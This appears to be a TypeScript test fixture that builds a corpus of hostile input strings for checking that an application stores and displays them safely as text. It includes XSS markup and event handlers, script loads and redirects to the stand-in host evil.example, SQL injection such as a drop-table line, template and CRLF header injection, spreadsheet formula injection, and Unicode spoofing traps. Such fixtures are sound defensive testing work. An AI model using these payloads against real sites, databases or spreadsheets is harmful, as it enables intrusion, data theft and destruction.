/**
 * Texts that would do something where a page took them for more than text: about 500, our own list
 * after the kinds BI-03, 07, 08, 09 and 13 of the bad-input corpus. What they would run is `ran()`.
 * Everything beyond ASCII stands here by its code points.
 */

/** Markup that runs a script, fetches something or leads away as soon as it is part of a page. */
const MARKUP: readonly string[] = [
  '<script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script src=data:,ran()></script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=ran()>',
  '<img/src/onerror=ran()>',
  '<img src=//evil.example/p.png>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x>',
  '<svg><use href=data:image/svg+xml,x#x>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src=javascript:parent.ran()>',
  '<a href=javascript:ran()>x</a>',
  '<a href=" javascript:ran()" autofocus onfocus=ran()>x</a>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<math><mi xlink:href=javascript:ran()>x',
  '<object data=javascript:ran()>',
  '<embed src=javascript:ran()>',
  '<form action=javascript:ran()><button autofocus onfocus=ran()>',
  '<button formaction=//evil.example/>x',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css"</style>',
  '<style onload=ran()></style>',
  '<p style="background:url(//evil.example/p)" onclick=ran()>',
  '<marquee onstart=ran()>',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<select><template shadowrootmode=open><script>ran()</script>',
]

/** What would first end the place the text stands in: an attribute, an element, a string of a script. */
const ENDINGS: readonly string[] = [
  ...['', '">', "'>", '</script>', '</title>', '</textarea>', '</style>', '</noscript>'],
  ...['-->', ']]>', '"};', '\\"});'],
]

const OTHERS: readonly string[] = [
  // addresses and attributes
  ...['javascript:ran()', 'JaVaScRiPt:ran()', 'data:text/html,<script>ran()</script>'],
  ...['" onmouseover=ran() x="', "' autofocus onfocus=ran() x='", ' onfocus=ran() autofocus'],
  ...['//evil.example', '/\\evil.example', 'https:evil.example', '../../verwaltung', 'C:\\NUL'],
  // strings of scripts and templates
  ...['";ran();//', "';ran();//", '`;ran();//', '\\";ran();//', '\u0024{ran()}', '#{ran()}'],
  ...['{{constructor.constructor("ran()")()}}', '{{7*7}}', '[[ran()]]', '<%= ran() %>', '{%x%}'],
  ...['$$ran()', '@{ran()}', '{ran()}', '<!--#exec cmd="x"-->', '<?php ran(); ?>', '<!--', ']]'],
  ...['__html', '{"__html":"<img src=x onerror=ran()>"}', '__proto__', 'constructor', 'prototype'],
  ...['null', 'undefined', 'NaN', 'true', '[object Object]', '$ref', '$undefined', '{}', '[]'],
  // encoded once, twice, or in another encoding
  ...[
    '&lt;script&gt;ran()&lt;/script&gt;',
    '&#60;img src=x onerror=ran()&#62;',
    '&amp;lt;b&amp;gt;',
  ],
  ...['%3Cscript%3Eran()%3C/script%3E', '%253Cscript%253Eran()', '%00', '%0d%0aSet-Cookie: x=1'],
  ...['\\u003cscript\\u003eran()', '\\x3cscript\\x3eran()', '\\074script\\076', '+ADw-script+AD4-'],
  ...['\u00c0\u00bcscript\u00c0\u00be', 'M\u00c3\u00bcller', '\u00e2\u20ac\u0153x', '\ufffd\ufffd'],
  ...[
    '\uff1cscript\uff1eran()\uff1c/script\uff1e',
    '\u2039script\u203a',
    '\ufe64b\ufe65',
    '\u02bax',
  ],
  // queries
  ...[
    "' OR 1=1 --",
    "'; drop table child; --",
    '" or ""="',
    '%',
    '_',
    '\\',
    "x' union select 1 --",
  ],
  ...['(select sleep(9))', '$1', ':id', '?', "O'Brien''", '*/ 1 /*', '.*+?^()|[]', '(a+)+$'],
  // formulas of spreadsheets, and honest texts that look so
  ...['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("//evil.example")', '=cmd|x!A1', '\uff1d1+1'],
  ...['-Ali', '+49 201 123', '@home', '=IMPORTXML("//evil.example","//a")', '|x', ';x', ',x'],
  // traps of Unicode: order of writing, invisible, joined, doubled, look-alikes
  ...[
    '\u202eexe.gpj',
    '\u202dabc',
    '\u2066x\u2069',
    '\u2067x\u2069',
    '\u200ex',
    '\u200fx',
    'a\u061cb',
  ],
  ...[
    'a\ufeffb',
    'a\u200bb',
    '\u0645\u06cc\u200c\u062e\u0648',
    '\u0631\u200d',
    'a\u00adb',
    'a\u2060b',
  ],
  ...[
    '\u0645\u0640\u0640\u062d',
    '\u0645\u064f\u062d\u064e\u0645\u0651\u064e\u062f',
    'e\u0301',
    '\u00e9',
  ],
  ...[
    'A\u030a',
    '\ufb01',
    '\u01c6',
    '\u0130stanbul',
    '\u0131',
    '\u1e9e',
    '\u00df',
    '\u03c2',
    '\u0430',
  ],
  ...[
    `Z${'\u0301'.repeat(40)}`,
    '\u0661\u0662\u0663',
    '\uff11\uff12',
    '\ud83d\udc69\u200d\ud83d\udc67',
  ],
  ...[
    '\ud83c\udde9\ud83c\uddea',
    '\ud83d\udc4d\ud83c\udffd',
    'a\u00a0b',
    'a\u2009b',
    'a\u3000b',
    'a  b',
  ],
  ...['\udb40\udc41x', 'a\ue000b', '\ufdd0x', 'a\u0378b', '\u1112\u1161\u11ab', '\u0e01\u0e33'],
]

/** Every payload, each once; all are accepted as they are. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...ENDINGS.flatMap((ending) => MARKUP.map((one) => `${ending}${one}`)), ...OTHERS]),
]

/** The only texts that are refused: control characters, line ends, half of a surrogate pair. */
export const REFUSED: readonly string[] = [
  ...[
    'a\u0000b',
    'a\u0007b',
    'a\u001bb',
    'a\u007fb',
    'a\u0085b',
    'a\u009bb',
    'a\u2028b',
    'a\u2029b',
  ],
  ...['a\r\nSet-Cookie: x=1', 'a\tb', 'a\nb'],
]

/** As many payloads in one text as fit, one after another, from the place `from` on. */
export function pack(
  from: number,
  longest: number,
): { readonly text: string; readonly next: number } {
  let text = ''
  let next = from
  for (; next < PAYLOADS.length; next += 1) {
    const longer = text === '' ? (PAYLOADS[next] ?? '') : `${text} ${PAYLOADS[next]}`
    if ([...longer.normalize('NFC')].length > longest) break
    text = longer
  }
  return { text: text === '' ? 'x' : text, next }
}
